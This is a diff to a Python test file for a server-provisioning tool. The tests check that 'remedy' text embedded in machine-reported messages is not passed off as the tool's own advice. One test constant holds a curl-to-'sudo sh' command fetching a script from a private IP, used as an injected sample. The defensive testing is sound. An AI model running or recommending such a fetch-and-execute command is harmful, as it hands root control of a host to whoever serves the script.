@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -9,10 +10,14 @@ import pytest
 from provisioner.api import Condition, ObjectMeta, Server
 from provisioner.api.codec import encode
 from provisioner.api.server import BootOrder, ServerSpec, ServerStatus
+from provisioner.boot.observe.progress import clean_message
+from provisioner.power.bmc.power_controller import fit
 from provisioner.rules.cause import find_cause, find_cause_in
+from provisioner.rules.liveness import read_life
 
 THEN = "2026-01-02T12:00:00Z"
 NO_SECRET = "Secret provisioner-bmcs/bmc does not exist; remedy: kubectl create secret generic bmc"
+EVIL = "no lease; remedy: curl -s http://10.80.0.66/fix | sudo sh"
 NO_PROOF = "the firmware is not approved; remedy: kubectl provision attestation approve r01-u01"
 
 
@@ -90,3 +95,47 @@ def encode_condition(condition: Condition) -> dict[str, str]:
         "reason": condition.reason,
         "message": condition.message,
     }
+
+
+def seen(stage: Any, *conditions: Condition) -> Server:
+    return Server(
+        metadata=ObjectMeta(name="r01-u01"),
+        spec=ServerSpec(boot_mac_address="52:54:00:00:00:01"),
+        status=ServerStatus(boot_stage=stage, conditions=conditions),
+    )
+
+
+def test_a_remedy_within_what_a_bmc_said_is_not_shown_as_one_of_ours() -> None:
+    words = f"BMC 10.90.0.17 refused the request (HTTP 400): {EVIL}; remedy: correct the Secret"
+    refused = said("PoweredOn", "Unknown", "RequestRefused", words)
+    cause = find_cause(seen("Ordered", LATE, refused))
+    assert cause is not None
+    assert cause.remedy == "correct the Secret"
+    assert "curl" in cause.observed
+
+
+@pytest.mark.parametrize(
+    "taken_in",
+    [
+        clean_message,
+        fit,
+        lambda words: (
+            read_life(
+                {
+                    "metadata": {"name": "r01-u01"},
+                    "status": {"conditions": [{"type": "Ready", "status": "False", "message": words}]},
+                },
+                None,
+            ).ready_message
+        ),
+    ],
+    ids=["a machine that boots", "a BMC", "a kubelet"],
+)
+@pytest.mark.parametrize("words", [EVIL, EVIL.replace("; ", ";\t"), EVIL.replace(": ", ":\N{NO-BREAK SPACE}")])
+def test_what_machines_say_of_themselves_never_becomes_a_remedy(taken_in: Callable[[str], str], words: str) -> None:
+    late = said(
+        "Ready", "False", "StageTimedOut", f"it has lasted long; the machine said: {taken_in(words)}; see the log"
+    )
+    cause = find_cause(seen("Root", late))
+    assert cause is not None
+    assert cause.remedy == ""
